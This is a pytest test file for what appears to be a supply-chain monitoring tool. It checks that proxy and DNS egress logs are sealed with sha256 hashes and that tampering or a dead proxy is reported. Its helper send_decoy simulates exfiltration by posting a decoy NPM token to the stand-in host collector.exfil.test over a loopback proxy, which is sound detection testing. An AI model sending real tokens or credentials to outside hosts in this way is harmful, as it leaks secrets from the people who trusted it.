"""Evidence sealed when its writers stop: real files, a real proxy and resolver on loopback."""

from __future__ import annotations

import json
import os
import secrets
import signal
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest
import requests

from cujo_action.arm.arming import Harness
from cujo_action.evidence.bundle import write_manifest
from cujo_action.evidence.reader import Manifest
from cujo_action.evidence.seals import EvidenceFaults, broken_seals, seal
from cujo_action.find.decoys import make_decoys
from cujo_action.net.dns.resolver import ResolverConfig, start_resolver
from cujo_action.net.helperconfig import DecoySpec
from cujo_action.net.proxy.config import ProxyConfig
from cujo_action.net.proxy.process import ProxyHandle, start_proxy
from cujo_action.schema import MAX_TEXT

LABEL = "install/install"
DECOYS = make_decoys()
NPM = next(d for d in DECOYS if d.name == "NPM_TOKEN")


def sha256sum(path: Path) -> str:
    """Return the file's sha256 as coreutils computes it: an oracle from outside."""
    out = subprocess.run(["sha256sum", str(path)], capture_output=True, text=True, check=True)
    return out.stdout.split()[0]


# --------------------------------------------------------------------------- seals on files


def test_a_seal_holds_until_a_line_is_appended(tmp_path: Path) -> None:
    log = tmp_path / "egress.jsonl"
    log.write_bytes(b'{"host":"a.exfil.test"}\n' * 1000)

    sealed = seal(log, "evidence/egress.jsonl", ["proxy"])

    assert sealed.entry.sha256 == sha256sum(log)
    assert (sealed.entry.bytes, sealed.entry.writers) == (log.stat().st_size, ["proxy"])
    assert sealed.broken() is None
    with log.open("ab") as fh:
        fh.write(b'{"host":"late.exfil.test"}\n')
    why = sealed.broken()
    assert why is not None
    assert why.startswith("evidence/egress.jsonl changed after its writers stopped")
    assert f"{sealed.entry.bytes} bytes" in why
    assert f"{log.stat().st_size} bytes" in why


def test_a_seal_breaks_on_a_rewrite_of_the_same_size_and_on_removal(tmp_path: Path) -> None:
    log = tmp_path / "egress.jsonl"
    log.write_bytes(b'{"host":"a.exfil.test"}\n')
    first = seal(log, "evidence/egress.jsonl", ["proxy", "resolver"])
    log.write_bytes(b'{"host":"b.exfil.test"}\n')  # a line rewritten: same size
    other = tmp_path / "other.jsonl"
    other.write_bytes(b"")
    second = seal(other, "evidence/other.jsonl", ["resolver"])
    other.unlink()

    assert broken_seals([first, second]) == [
        f"evidence/egress.jsonl changed after its writers stopped ({first.entry.bytes} bytes "
        f"sha256 {first.entry.sha256[:16]}… when sealed, {first.entry.bytes} bytes "
        f"sha256 {sha256sum(log)[:16]}… now)",
        "evidence/other.jsonl was removed after it was sealed",
    ]


def test_a_seal_never_follows_a_symlink(tmp_path: Path) -> None:
    target = tmp_path / "elsewhere"
    target.write_bytes(b"x")
    link = tmp_path / "egress.jsonl"
    link.symlink_to(target)

    with pytest.raises(OSError, match="symbolic links"):
        seal(link, "evidence/egress.jsonl", ["proxy"])


def test_the_failure_reason_names_every_fault_and_fits_a_failure() -> None:
    assert EvidenceFaults(lost=[], untrusted=[]).reason() == ""
    faults = EvidenceFaults(lost=["the proxy died"], untrusted=["x changed"] * 500)
    reason = faults.reason()
    assert reason.startswith("the evidence cannot be trusted whole: x changed; x changed")
    assert len(reason) <= MAX_TEXT


def test_the_manifest_carries_the_seals_and_old_manifests_still_validate(tmp_path: Path) -> None:
    log = tmp_path / "egress.jsonl"
    log.write_bytes(b"{}\n")
    out = tmp_path / "out"
    out.mkdir()
    (out / "install.json").write_text("{}")
    sealed = seal(log, "evidence/egress.jsonl", ["proxy", "resolver"])

    written = json.loads(write_manifest(out, "r", "a" * 40, "b" * 40, [sealed.entry]).read_text())

    assert written["evidence"] == [
        {
            "name": "evidence/egress.jsonl",
            "sha256": sha256sum(log),
            "bytes": 3,
            "writers": ["proxy", "resolver"],
        }
    ]
    del written["evidence"]
    assert Manifest.model_validate(written).evidence == []


# --------------------------------------------------------------------------- the harness


def proxy_config(tmp: Path, log: Path) -> ProxyConfig:
    return ProxyConfig(
        labels=[LABEL],
        confdir=tmp / "confdir",
        decoys=[DecoySpec(name=d.name, value=d.value) for d in DECOYS],
        log_path=log,
        ready_path=tmp / "ready.json",
    )


@pytest.fixture
def evidence(tmp_path: Path) -> Path:
    folder = tmp_path / "evidence"
    folder.mkdir(mode=0o700)
    return folder / "egress.jsonl"


@pytest.fixture
def proxy(tmp_path: Path, evidence: Path) -> Iterator[ProxyHandle]:
    handle = start_proxy(proxy_config(tmp_path, evidence))
    try:
        yield handle
    finally:
        handle.stop()


def send_decoy(proxy: ProxyHandle) -> None:
    """Make the proxy log one request that carries a decoy."""
    with requests.Session() as s:
        s.trust_env = False
        resp = s.post(
            f"http://collector.exfil.test/{secrets.token_hex(4)}",
            data=NPM.value,
            proxies={"http": f"http://127.0.0.1:{proxy.ports[LABEL]}"},
            timeout=10,
        )
    assert resp.status_code == 200


def test_stop_seals_the_log_once_the_proxy_has_stopped(proxy: ProxyHandle, evidence: Path) -> None:
    send_decoy(proxy)
    harness = Harness(proxy)

    harness.stop()

    assert not proxy.alive()
    [sealed] = harness.seals
    assert sealed.path == evidence
    assert sealed.entry.name == "evidence/egress.jsonl"
    assert sealed.entry.writers == ["proxy"]
    # The seal covers the whole log, down to what the proxy wrote while shutting down.
    assert (sealed.entry.sha256, sealed.entry.bytes) == (
        sha256sum(evidence),
        len(evidence.read_bytes()),
    )
    assert NPM.name in evidence.read_text()
    assert harness.evidence_faults() == EvidenceFaults(lost=[], untrusted=[])


def test_a_line_added_after_stop_makes_the_evidence_untrusted(
    proxy: ProxyHandle, evidence: Path
) -> None:
    send_decoy(proxy)
    harness = Harness(proxy)
    harness.stop()

    with evidence.open("ab") as fh:
        fh.write(b'{"forged": "' + NPM.value.encode() + b'"}\n')
    faults = harness.evidence_faults()

    assert faults.lost == []
    [why] = faults.untrusted
    assert why.startswith("evidence/egress.jsonl changed after its writers stopped")
    # The reason is printed and uploaded: nothing of the log's content is in it.
    assert NPM.value not in faults.reason()


def test_a_proxy_dead_before_stop_is_a_fault_and_its_log_is_still_sealed(
    proxy: ProxyHandle, evidence: Path
) -> None:
    send_decoy(proxy)
    os.kill(proxy.pid, signal.SIGKILL)
    proxy.process.wait()
    harness = Harness(proxy)

    harness.stop()

    faults = harness.evidence_faults()
    assert faults.lost == [
        "the proxy was not running when the harness stopped it: what it did not log "
        "after it died is lost"
    ]
    assert faults.untrusted == []
    [sealed] = harness.seals
    assert sealed.entry.sha256 == sha256sum(evidence)


def test_the_proxy_and_the_resolver_share_one_sealed_log(
    tmp_path: Path, proxy: ProxyHandle, evidence: Path
) -> None:
    resolver = start_resolver(
        ResolverConfig(labels=[LABEL], log_path=evidence, ready_path=tmp_path / "dns-ready.json"),
        tmp_path / "dns",
    )
    harness = Harness(proxy, resolver)
    try:
        send_decoy(proxy)
    finally:
        harness.stop()

    assert not resolver.alive()
    [sealed] = harness.seals
    assert sealed.entry.writers == ["proxy", "resolver"]
    assert sealed.entry.sha256 == sha256sum(evidence)
    assert harness.evidence_faults() == EvidenceFaults(lost=[], untrusted=[])
